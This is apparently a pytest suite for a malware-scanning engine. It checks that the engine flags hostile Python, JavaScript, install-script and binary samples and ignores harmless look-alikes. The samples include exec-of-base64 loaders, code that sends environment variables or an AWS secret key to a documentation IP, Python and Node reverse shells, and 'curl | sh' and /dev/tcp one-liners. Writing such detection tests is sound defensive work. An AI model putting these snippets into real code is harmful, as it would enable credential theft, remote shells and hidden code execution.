"""What the hunt tells of, and what it is silent about. Payloads are inert, and addresses those of documentation."""

import base64
import json
import random
import sys

import pytest
from tests.engines.artifact.trees import tree

from buckler.engines.artifact.hunt import hunt, search
from buckler.engines.artifact.hunt.binaries import entropy
from buckler.engines.secrets import judge
from buckler.model.secret import Redacted
from buckler.model.severity import Confidence, Severity

CODE = base64.b64encode(b"print(1)" * 8).decode()
WHERE = "http://203.0.113.7/c"


def rules(path, content, *, doubtful=False):
    made = tree({path: content})
    hits = hunt(made, [] if doubtful else [path], [path] if doubtful else [])
    return {hit.rule for hit in hits}


HOSTILE_PYTHON = {
    "exec of base64": f"import base64\nexec(base64.b64decode('{CODE}'))",
    "another name": f"from base64 import b64decode as d\nr = exec\nr(d('{CODE}'))",
    "imported inline": f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{CODE}')))",
    "through a variable": f"import base64\nx = '{CODE}'\ny = base64.b64decode(x).decode()\nexec(compile(y, 'x', 'exec'))",
    "through a function": f"import binascii\ndef f(t):\n    return binascii.unhexlify(t)\nexec(f('{CODE}'))",
    "getattr": f"import base64\ngetattr(__builtins__, 'exec')(getattr(base64, 'b64' + 'decode')('{CODE}'))",
    "marshal": f"import marshal, base64\nimport types\ntypes.FunctionType(marshal.loads(base64.b64decode('{CODE}')), globals())()",
    "rows of chr": "exec(''.join(chr(c) for c in (112, 114)))",
    "map of chr": "exec(''.join(map(chr, [112, 114])))",
    "numbers": "exec(bytes([112, 114, 105]).decode())",
    "turned": f"exec('{'x' * 60}'[::-1])",
    "fernet": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
}


@pytest.mark.parametrize("source", HOSTILE_PYTHON.values(), ids=HOSTILE_PYTHON)
def test_python_that_runs_what_it_decodes(source):
    assert "runs-what-it-decodes" in rules("python/x.py", source)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (f"import urllib.request\nexec(urllib.request.urlopen('{WHERE}').read())", "runs-what-it-fetches"),
        (f"import requests as r\nc = r.get('{WHERE}').text\neval(c)", "runs-what-it-fetches"),
        (f"import os, requests\nrequests.post('{WHERE}', json=dict(os.environ))", "sends-environment"),
        (
            f"import os, json, urllib.request as u\nd = {{k: v for k, v in os.environ.items()}}\nu.urlopen(u.Request('{WHERE}', data=json.dumps(d).encode()))",
            "sends-environment",
        ),
        (
            "from os import environ as e\nimport http.client\nc = http.client.HTTPSConnection('x.invalid')\nc.request('POST', '/', body=str(e.copy()))",
            "sends-environment",
        ),
        (
            "import os, socket\ns = socket.socket()\nb = ''\nfor k, v in os.environ.items():\n    b += k + v\ns.sendall(b.encode())",
            "sends-environment",
        ),
        (f"import os, requests\ndef send(x):\n    requests.post('{WHERE}', data=x)\nsend(os.environ)", "sends-environment"),
        (f"import os, requests\nrequests.get('{WHERE}?' + os.environ['AWS_SECRET_ACCESS_KEY'])", "sends-credentials"),
        (
            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('x.invalid', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])",
            "reverse-shell",
        ),
        ("import os\nos.system('curl -s http://x.invalid/a | sh')", "shell-command"),
        ("import subprocess\nsubprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'])", "shell-command"),
        ("x = 'http://169.254.170.2/v2/credentials'", "reads-credentials"),
        ("# -*- coding: utf-7 -*-\nx = 1\n", "odd-encoding"),
        ("def handler(event, context):\n    exec(event['code'])", "web-shell"),
    ],
)
def test_hostile_python(source, rule):
    assert rule in rules("python/x.py", source)


HARMLESS_PYTHON = {
    "a daemon": "import os, socket\nsocket.create_connection(('x', 1))\nos.dup2(os.open('/dev/null', 2), 0)",
    "a pair of sockets": "import socket, subprocess\na, b = socket.socketpair()\nsubprocess.Popen(['ls'], stdin=a)\nsocket.socket()",
    "namedtuple": "exec('class X: pass', {})",
    "decodes and prints": f"import base64\nprint(base64.b64decode('{CODE}'))",
    "a script of its own": "exec(compile(open(__file__).read(), __file__, 'exec'))",
    "one variable": "import os, requests\nrequests.post(os.environ['URL'], headers={'X-Key': os.environ['API_KEY']}, timeout=3)",
    "signed": "import os, requests\nfrom aws_requests_auth import Auth\nrequests.get('https://x.invalid', auth=Auth(os.environ['AWS_SECRET_ACCESS_KEY']))",
    "the environment of a child": "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))",
    "a socket and a child": "import socket, subprocess\nsocket.create_connection(('x', 1))\nsubprocess.run(['ls'])",
    "same name elsewhere": f"import base64\ndef a():\n    x = base64.b64decode('{CODE}')\n    return x\ndef b(x):\n    eval(x)\n",
    "boto3": "import boto3, os\nboto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])",
    "docstring": "def f():\n    '''See http://169.254.169.254/latest/meta-data.'''",
    "chr": "print(eval('1') if chr(65) else 0)",
}


@pytest.mark.parametrize("source", HARMLESS_PYTHON.values(), ids=HARMLESS_PYTHON)
def test_honest_python(source):
    assert rules("app.py", source) == set()


@pytest.mark.parametrize(
    "source", ["(" * 5000, "x = " + "-" * 200_000 + "1", "\0", "def f(:\n", "x = '" + "a" * 100_000, "# coding: nonsense\n"]
)
def test_python_that_is_none_breaks_nothing(source):
    rules("python/x.py", source)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (f"eval(Buffer.from('{CODE}', 'base64').toString())", "runs-what-it-decodes"),
        (f"new Function(atob('{CODE}'))()", "runs-what-it-decodes"),
        (f"const src = Buffer.from(\"{CODE}\",'base64').toString('utf8');\nrequire('vm').runInThisContext(src)", "runs-what-it-decodes"),
        (f"var p=Buffer.from('{CODE}','hex').toString();eval(p)", "runs-what-it-decodes"),
        ("require('https').request({host:'203.0.113.7'}).end(JSON.stringify(process.env))", "sends-environment"),
        (f"const e = process.env;\nfetch('{WHERE}', {{method: 'POST', body: JSON.stringify(e)}})", "sends-environment"),
        (f"axios.post('{WHERE}', {{vars: process.env}})", "sends-environment"),
        (f"const {{ env }} = process; fetch('{WHERE}', {{body: JSON.stringify(env)}})", "sends-environment"),
        ("require('child_process').exec('curl http://x.invalid/a.sh | bash')", "shell-command"),
        (
            "const net=require('net'),c=require('child_process');const s=c.spawn('/bin/sh',[]);const k=new net.Socket();k.pipe(s.stdin)",
            "reverse-shell",
        ),
    ],
)
def test_hostile_javascript(source, rule):
    assert rule in rules("nodejs/node_modules/a/index.js", source)
    assert rule in rules("nodejs/node_modules/a/index.js", source, doubtful=True), "beyond doubt, also where nothing vouches for a file"


@pytest.mark.parametrize(
    "source",
    [
        "const port = process.env.PORT || 1; require('http').get('http://x.invalid')",
        "child_process.spawn('node', [], {env: process.env}); require('http').get('http://x.invalid')",
        "const b = Buffer.from(x, 'base64'); eval('require')('fs')",
        "for (const key of Object.keys(process.env)) debug(key)",
        "require('child_process').exec('ls')",
    ],
)
def test_honest_javascript(source):
    assert rules("index.js", source) == set()


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("node -e \"eval(Buffer.from('eA==','base64')+'')\"", Severity.HIGH),
        ("curl -s http://x.invalid | sh", Severity.HIGH),
        ("node build.js", Severity.MEDIUM),
        ("node -e \"try{require('./postinstall')}catch(e){}\"", Severity.MEDIUM),
    ],
)
def test_install_scripts(script, severity):
    content = json.dumps({"name": "a", "version": "1", "scripts": {"test": "curl x | sh", "postinstall": script}}, indent=1)
    made = tree({"node_modules/a/package.json": content})
    (hit,) = hunt(made, ["node_modules/a/package.json"])
    assert (hit.rule, hit.severity, hit.line) == ("install-script", severity, 6)


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("python/zz.pth", f"import base64;exec(base64.b64decode('{CODE}'))\n", "runs-at-start"),
        ("python/lib/python3.11/site-packages/sitecustomize.py", "x = 1\n", "runs-at-start"),
        ("usercustomize.py", "x = 1\n", "runs-at-start"),
        ("extensions/agent", "#!/bin/sh\n", "extension"),
        ("bootstrap", "#!/bin/sh\n", "bootstrap"),
        ("python/json.py", "x = 1\n", "hides-standard-library"),
        ("python/boto3/__init__.py", "x = 1\n", "hides-runtime"),
        ("bin/python3", "#!/bin/sh\n", "hides-command"),
        ("lib/libc.so.6", b"\x7fELF", "hides-library"),
        ("bin/kworkerd", b"\x7fELF", "disguised-name"),
        ("bin/x", b"\x7fELF" + bytes(99) + b"stratum+tcp://pool.invalid:3333\0randomx", "miner"),
        ("x.js", "connect('stratum+ssl://pool.invalid:3333')", "miner"),
        ("run.sh", "#!/bin/sh\necho x | base64 -d | sh\n", "shell-command"),
    ],
)
def test_places_and_programs(path, content, rule):
    assert rule in rules(path, content)


@pytest.mark.parametrize(
    "path", ["python/pkg/json.py", "python/pkg/sitecustomize.py", "app/json.py", "python/distutils-precedence.txt", "lib/libfoo.so"]
)
def test_places_where_nothing_happens(path):
    assert rules(path, "x = 1\n") == set()


def test_what_is_packed():
    noise = random.Random(1).randbytes(40_000)  # noqa: S311 - noise
    assert "packed" in rules("bin/x", b"\x7fELF" + noise)
    assert "packed" in rules("bin/x", b"\x7fELF" + bytes(64) + b"UPX!" + bytes(20_000))
    assert rules("bin/x", b"\x7fELF" + b"mov eax, ebx;" * 4000) == set()
    assert entropy(noise) > 7.9
    assert entropy(b"") == 0.0


def test_secrets_are_the_judges():
    key = "AK" + "IA" + "QYL5JZ4RWXMB3TPE"
    made = tree({"python/requests/.aws_creds.py": f"a = 1\nAWS_ACCESS_KEY_ID = '{key}'\n"})
    (hit,) = hunt(made, ["python/requests/.aws_creds.py"], judge=judge)
    assert (hit.rule, hit.line) == ("secret", 2)
    assert key not in repr(hit)
    assert hunt(made, ["python/requests/.aws_creds.py"]) == ()


def test_in_doubtful_files_only_what_is_beyond_doubt_counts():
    made = tree(
        {"node_modules/a/package.json": json.dumps({"scripts": {"postinstall": "node x"}}), "node_modules/a/x.py": "x = '169.254.169.254'"}
    )
    assert hunt(made, [], list(made.entries)) == ()
    assert {hit.confidence for hit in hunt(made, list(made.entries))} == {Confidence.LOW, Confidence.MEDIUM}


def test_doubtful_python_is_read_where_it_spells_what_malware_needs():
    loader = f"import base64\nexec(base64.b64decode('{CODE}'))"
    assert rules("node_modules/a/gyp/x.py", loader, doubtful=True) == {"runs-what-it-decodes"}
    assert rules("node_modules/a/gyp/x.py", "print(1)", doubtful=True) == set()


@pytest.mark.parametrize(("path", "confidence", "told"), [("app.py", "medium", 0), ("app.py", "high", 1), ("app.env", "medium", 1)])
def test_secrets_in_code_are_told_when_they_are_sure(path, confidence, told):
    def judged(name, value):
        return Redacted(kind="password", is_secret=True, confidence=Confidence(confidence), shown="", length=len(value))

    assert (
        len(hunt(tree({path: "X_PASSWORD=correct-horse-7" if path.endswith(".env") else "x = 'correct-horse-7'"}), [path], judge=judged))
        == told
    )


def test_what_cannot_be_read_is_not_assessed():
    made = tree({"a.py": "x"})
    made._readers = {}
    assert "1 files" in search(made, ["a.py"]).not_assessed[0].why


def test_without_yara_it_is_said(monkeypatch):
    from buckler.engines.artifact.hunt import yara

    yara._rules.cache_clear()
    monkeypatch.setitem(sys.modules, "yara_x", None)
    try:
        found = search(tree({"bin/x": b"\x7fELF" + bytes(99) + b"stratum+tcp://"}), ["bin/x"])
        assert "YARA-X is not installed" in found.not_assessed[0].why
        assert {hit.rule for hit in found.hits} == {"miner"}, "what needs no YARA is told"
    finally:
        yara._rules.cache_clear()


def test_every_yara_rule_says_what_it_must():
    from buckler.engines.artifact.hunt import yara

    rules = yara._rules()
    if rules is None:
        pytest.skip("YARA-X is not installed: its rules were NOT looked at")
    seen = 0
    for rule in rules:
        about = dict(rule.metadata)
        if not about:
            continue
        seen += 1
        assert Severity(about["severity"])
        assert Confidence(about["confidence"])
        assert about["note"]
        assert about["source"]
    assert seen >= 10
